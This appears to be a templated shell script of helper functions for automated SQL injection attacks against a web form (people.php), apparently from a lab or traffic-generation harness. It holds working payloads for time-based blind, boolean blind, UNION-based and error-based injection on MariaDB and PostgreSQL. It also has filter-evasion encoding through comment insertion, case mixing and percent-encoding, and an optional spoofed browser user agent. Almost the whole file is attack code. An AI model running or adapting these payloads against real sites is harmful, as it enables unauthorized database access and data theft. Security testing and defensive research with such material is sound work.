# Shell functions for the attacker's scripts.
{{- $mariadb := eq .implementations.server "mariadb"}}
{{- $known := .params.user}}
cd /root
browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Gecko/20100101 Firefox/102.0'
[ "$AGENT" = browser ] || browser=
site=http://$WEB_NAME

# disguise: an injection from standard input as the evasion has it, encoded for a form.
disguise() {
	case $EVASION in
	comments) sed 's: \(.\):/**/\1:g' ;;
	case) sed 's/\([A-Z]\)\([A-Z]\)/\1\L\2/g' ;;
	*) cat ;;
	esac | od -An -v -tx1 | tr -s ' ' '\n' | awk -v evasion="$EVASION" '
		BEGIN { for (i = 33; i < 127; i++) letter[sprintf("%02x", i)] = sprintf("%c", i) }
		NF { printf "%s", evasion != "encode" && letter[$1] ~ /[A-Za-z0-9]/ ? letter[$1] : "%" toupper($1) }'
}

# ask INJECTION: the page with people for it, in the file "answer-$ROW"; status and seconds are printed.
ask() {
	sleep "$PAUSE"
	curl -s ${browser:+-A "$browser"} -o "answer-${ROW:-0}" -w '%{http_code} %{time_total}\n' \
		"$site/people.php?name=$(printf '%s' "$1" | disguise)" || true
}

# true CONDITION: whether it holds for the database.
{{- if eq .task "time"}}
holds() {
	ask "{{$known}}' AND {{if $mariadb}}IF($1, SLEEP($SECONDS), 0){{else}}1=(CASE WHEN $1 THEN (SELECT 1 FROM PG_SLEEP($SECONDS)) ELSE 0 END){{end}} -- " |
		awk -v least="$SECONDS" '{ exit !($1 == 200 && $2 >= least) }'
}
{{- else}}
holds() {
	ask "{{$known}}' AND $1 -- " | grep -q '^200' && grep -q '<td>{{$known}}</td>' "answer-${ROW:-0}"
}
{{- end}}

# The table, a row a line.
union="0' UNION SELECT CONCAT_WS({{if $mariadb}}CHAR{{else}}CHR{{end}}(9), id, name, amount, text), '' FROM orders -- "

# error ROW: the injection that has the database complain about a name.
error() {
	{{- if $mariadb}}
	echo "{{$known}}' AND EXTRACTVALUE(1, CONCAT(CHAR(126), (SELECT name FROM orders WHERE id=$1))) -- "
	{{- else}}
	echo "{{$known}}' AND 1=CAST((SELECT CONCAT(CHR(126), name) FROM orders WHERE id=$1) AS INTEGER) -- "
	{{- end}}
}

dbms={{if $mariadb}}MySQL{{else}}PostgreSQL{{end}}
schema={{if $mariadb}}{{.params.database}}{{else}}public{{end}}
